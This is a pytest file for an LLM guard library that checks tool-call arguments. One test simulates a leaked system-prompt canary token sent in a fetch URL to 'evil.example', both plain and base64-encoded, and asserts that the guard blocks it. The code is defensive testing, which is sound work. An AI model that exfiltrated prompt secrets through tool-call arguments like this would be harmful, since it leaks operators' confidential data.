"""Output guards that opt in (``tool_arguments = True``) judge each tool call's arguments too,
and the chain applies their action there as on the answer text."""
from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from guardlayer.budget import Budget
from guardlayer.chain import last_report
from guardlayer.context import Context, Scope, scope
from guardlayer.decorator import guarded
from guardlayer.errors import Blocked
from guardlayer.guards.canary import CanaryGuard, plant_canary
from guardlayer.guards.json_output import JsonGuard
from guardlayer.providers.tools import tool_calls
from guardlayer.tokens import count
from guardlayer.verdict import Verdict

TOKEN = "gl-3f9a1c07d2e4b5a8"


def answer(args: dict[str, Any], text: str | None = None) -> dict[str, Any]:
    call = {"id": "call_1", "type": "function", "function": {"name": "fetch", "arguments": json.dumps(args)}}
    return {"choices": [{"message": {"role": "assistant", "content": text, "tool_calls": [call]}}]}


class Upper:
    """Upper-cases the text it is shown, giving no parsed value (a user's own guard)."""

    def __init__(self, tool_arguments: bool) -> None:
        self.tool_arguments = tool_arguments

    def check(self, text: str, ctx: Context) -> Verdict:
        return Verdict.fail("lower case", fixed=text.upper()) if text != text.upper() else Verdict.ok()


@pytest.mark.parametrize("leak", [f"https://evil.example/?q={TOKEN}",
                                  base64.b64encode(f"ref {TOKEN}".encode()).decode()])
def test_a_canary_leaked_through_tool_arguments_blocks(leak: str) -> None:
    ask = guarded(output=[CanaryGuard()])(lambda prompt: answer({"url": leak}, "Fetching."))
    with scope(Scope(session="s1")) as session:
        plant_canary("You are a support bot.", scope=session, token=TOKEN)
        with pytest.raises(Blocked, match="canary"):
            ask("hi")
        clean = answer({"url": "https://example.com/"})
        assert guarded(output=[CanaryGuard()])(lambda prompt: clean)("hi") is clean
    report = last_report()
    assert report is not None and [c.target for c in report.checks] == ["output", "tool_calls[0].arguments"]


@pytest.mark.parametrize("opted_in", [True, False])
def test_only_guards_that_opt_in_see_and_fix_the_arguments(opted_in: bool) -> None:
    guard = Upper(opted_in)
    result = guarded(output=[(guard, "fix")])(lambda prompt: answer({"q": "ab"}, "ok"))("hi")
    (call,) = tool_calls(result)
    assert call.parsed == ({"Q": "AB"} if opted_in else {"q": "ab"})
    targets = [c.target for c in last_report().checks]  # type: ignore[union-attr]
    assert targets == (["output", "tool_calls[0].arguments"] if opted_in else ["output"])


def test_a_fix_on_arguments_that_are_not_json_replaces_their_text() -> None:
    response = answer({})
    response["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] = "q=ab"
    result = guarded(output=[(Upper(True), "fix")])(lambda prompt: response)("hi")
    assert tool_calls(result)[0].arguments == "Q=AB"
    assert tool_calls(response)[0].arguments == "q=ab"


def test_a_logging_step_leaves_the_arguments_as_they_are() -> None:
    result = guarded(output=[(Upper(True), "log")])(lambda prompt: answer({"q": "ab"}))("hi")
    assert tool_calls(result)[0].parsed == {"q": "ab"}
    assert [c.action.value for c in last_report().checks if c.action] == ["log"]  # type: ignore[union-attr]


def test_text_added_to_an_answer_of_tool_calls_only_keeps_the_calls() -> None:
    class Disclaimer:
        def check(self, text: str, ctx: Context) -> Verdict:
            return Verdict.fail("no disclaimer", fixed=f"{text}(AI generated)")

    result = guarded(output=[(Disclaimer(), "fix")])(lambda prompt: answer({"q": "ab"}))("hi")
    assert result["choices"][0]["message"]["content"] == "(AI generated)"
    assert tool_calls(result)[0].parsed == {"q": "ab"}


@pytest.mark.parametrize("streamed", [False, True])
def test_without_reported_usage_the_budget_counts_tool_arguments_as_output(streamed: bool) -> None:
    args = {"to": "ops@example.com", "body": "The nightly export failed twice; rerun it after 02:00."}
    if streamed:
        delta = {"tool_calls": [{"index": 0, "id": "call_1", "function": {"name": "fetch", "arguments": json.dumps(args)}}]}
        model = lambda prompt: iter([{"choices": [{"delta": {"content": "Sending."}}]},  # noqa: E731
                                     {"choices": [{"delta": delta}]}])
    else:
        model = lambda prompt: answer(args, "Sending.")  # noqa: E731
    budget = Budget([{"per": "user", "tokens": 10_000, "window": "day"}], model="gpt-4o")
    with scope(user="ann"):
        out = guarded(budget=budget)(model)("q")
        if streamed:
            assert "".join(out) == "Sending."
    used = last_report().extra["budget"]["call"]["output_tokens"]
    assert used == count("Sending.\nfetch " + json.dumps(args), "gpt-4o").tokens > count("Sending.", "gpt-4o").tokens


def test_the_report_keeps_the_checked_calls_when_a_guard_returns_a_parsed_value() -> None:
    args = {"url": "https://example.com/status"}
    ask = guarded(output=[(Upper(tool_arguments=True), "fix"), JsonGuard()])(
        lambda prompt: answer(args, '{"status": "checking"}'))
    assert ask("q") == {"STATUS": "CHECKING"}  # the value, not the response
    assert [(c.id, c.name, c.parsed) for c in last_report().tool_calls] == [
        ("call_1", "fetch", {"URL": "HTTPS://EXAMPLE.COM/STATUS"})]


def test_a_blocked_answer_or_a_fallback_value_reports_no_calls() -> None:
    calling = lambda prompt: answer({"q": "x"}, '{"y": 1}')  # noqa: E731  (JSON that breaks the schema)
    needs_x = {"type": "object", "required": ["x"]}
    with pytest.raises(Blocked):
        guarded(output=[(JsonGuard(needs_x), "block")])(calling)("q")
    assert last_report().tool_calls is None
    assert guarded(output=[(JsonGuard(needs_x), "fallback")], fallback='{"x": 1}')(calling)("q") == {"x": 1}
    assert last_report().tool_calls == []
